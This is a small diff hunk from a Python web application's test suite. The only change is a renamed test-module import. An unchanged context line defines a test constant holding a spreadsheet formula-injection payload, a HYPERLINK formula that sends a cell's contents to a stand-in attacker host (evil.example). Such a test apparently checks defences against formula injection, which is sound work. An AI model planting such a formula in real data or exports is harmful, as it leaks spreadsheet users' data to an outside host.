@@ -22,7 +22,7 @@ from app.runtime import Runtime
 from app.settings import Settings
 from tests.helpers import bearer, make_open_job
 from tests.test_cli import portevoix
-from tests.web.test_apply_page import Browser, application
+from tests.web.test_apply import Browser, application
 from tests.web.test_miniapp_auth import dashboard_cookie
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?c="&A1,"Candidate")'
